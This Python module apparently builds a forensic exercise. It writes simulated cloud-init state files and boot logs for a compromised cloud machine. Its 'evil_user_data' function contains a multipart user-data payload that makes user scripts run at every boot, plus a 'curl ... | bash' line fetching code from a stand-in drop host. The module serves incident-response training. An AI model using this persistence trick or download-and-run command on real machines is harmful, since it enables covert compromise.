"""cloud-init's traces on a machine: its state folder and its two logs, for one boot."""
import datetime
import json

from . import story as s

VERSION = "22.4.2"


def user_data(story):
    """The legitimate user-data of the shop's machines, a cloud-config."""
    return ("#cloud-config\nssh_pwauth: true\nmanage_etc_hosts: false\nmounts:\n  - [ LABEL=shop-data, /srv, xfs, 'defaults,nofail', '0', '2' ]\n"
            "runcmd:\n  - [ systemctl, enable, --now, nginx ]\n")


def evil_user_data(story):
    """What the attacker put in its place: multipart, so that the script runs at every boot and not only at the first."""
    return (
        'Content-Type: multipart/mixed; boundary="//"\nMIME-Version: 1.0\n\n--//\nContent-Type: text/cloud-config; charset="us-ascii"\n'
        'MIME-Version: 1.0\nContent-Transfer-Encoding: 7bit\nContent-Disposition: attachment; filename="cloud-config.txt"\n\n#cloud-config\n'
        'cloud_final_modules:\n- [scripts-user, always]\n\n--//\nContent-Type: text/x-shellscript; charset="us-ascii"\nMIME-Version: 1.0\n'
        'Content-Transfer-Encoding: 7bit\nContent-Disposition: attachment; filename="userdata.txt"\n\n' + evil_script() + "\n--//--\n")


def evil_script():
    return f"#!/bin/bash\ncurl -fsSL http://{s.DROP_HOST}/i.sh | bash\n"


def _stamp(seconds):
    return datetime.datetime.fromtimestamp(seconds, datetime.timezone.utc).strftime("%Y-%m-%d %H:%M:%S,%f")[:-3]


def log_lines(story, when, instance, host, lines=()):
    """/var/log/cloud-init.log of one boot, and /var/log/cloud-init-output.log."""
    at = story.at(when)
    rfc = datetime.datetime.fromtimestamp(at, datetime.timezone.utc).strftime("%a, %d %b %Y %H:%M:%S +0000")
    detail, output = [], []
    for n, stage in enumerate(["init-local", "init", "modules:config", "modules:final"]):
        head = f"Cloud-init v. {VERSION} running '{stage}' at {rfc}. Up {8 + n * 3}.{n}1 seconds."
        detail.append(f"{_stamp(at + n)} - util.py[DEBUG]: {head}")
        output.append(head)
        if stage == "init":
            detail += [f"{_stamp(at + n)} - util.py[DEBUG]: Read 19 bytes from /var/lib/cloud/data/instance-id",
                       f"{_stamp(at + n)} - DataSourceEc2.py[DEBUG]: Fetching Ec2 IMDSv2 API Token",
                       f"{_stamp(at + n)} - stages.py[INFO]: Loaded datasource DataSourceEc2Local - DataSourceEc2Local, instance-id {instance}",
                       f"{_stamp(at + n)} - util.py[DEBUG]: Writing to /var/lib/cloud/instances/{instance}/user-data.txt - wb: [600]"]
        if stage == "modules:final":
            for text, out in lines:
                (detail if not out else output).append(f"{_stamp(at + n)} - {text}" if not out else text)
    end = f"Cloud-init v. {VERSION} finished at {rfc}. Datasource DataSourceEc2Local.  Up 24.31 seconds"
    detail.append(f"{_stamp(at + 5)} - util.py[DEBUG]: {end}")
    output.append(end)
    return "\n".join(detail) + "\n", "\n".join(output) + "\n"


def evil_lines(instance):
    path = f"/var/lib/cloud/instances/{instance}/scripts/userdata.txt"
    return [(f"subp.py[DEBUG]: Running command ['{path}'] with allowed return codes [0] (shell=False, capture=False)", False),
            ("  % Total    % Received % Xferd  Average Speed   Time    Time     Time  Current", True),
            ("100  1422  100  1422    0     0   9875      0 --:--:-- --:--:-- --:--:--  9875", True),
            (f"[*] fetched http://{s.DROP_HOST}/i.sh", True), ("[*] stage two in /var/tmp/.x", True)]


def write_state(guest, instance, data, previous=None, scripts=()):
    """/var/lib/cloud as cloud-init leaves it after a boot."""
    base = f"/var/lib/cloud/instances/{instance}"
    for folder in ["/var/lib/cloud/data", "/var/lib/cloud/instances", base, base + "/scripts", base + "/sem", "/var/lib/cloud/sem"]:
        guest.path(folder).mkdir(parents=True, exist_ok=True)
    guest.write(base + "/user-data.txt", data, 0o600)
    guest.write(base + "/user-data.txt.i", data, 0o600)
    guest.write(base + "/vendor-data.txt", "", 0o600)
    guest.write(base + "/datasource", "DataSourceEc2Local: DataSourceEc2Local\n")
    for name, text in scripts:
        guest.write(f"{base}/scripts/{name}", text, 0o700)
    for step in ["config_ssh", "config_users_groups", "config_mounts", "config_runcmd", "consume_data"]:
        guest.write(f"{base}/sem/{step}", "")
    guest.write(base + "/boot-finished", "24.31 - finished\n")
    link = guest.path("/var/lib/cloud/instance")
    link.unlink(missing_ok=True)
    link.symlink_to(base)
    guest.write("/var/lib/cloud/data/instance-id", instance + "\n")
    guest.write("/var/lib/cloud/data/previous-instance-id", (previous or "NO_PREVIOUS_INSTANCE_ID") + "\n")
    guest.write("/var/lib/cloud/data/result.json", json.dumps({"v1": {"datasource": "DataSourceEc2Local", "errors": []}}, indent=1) + "\n")
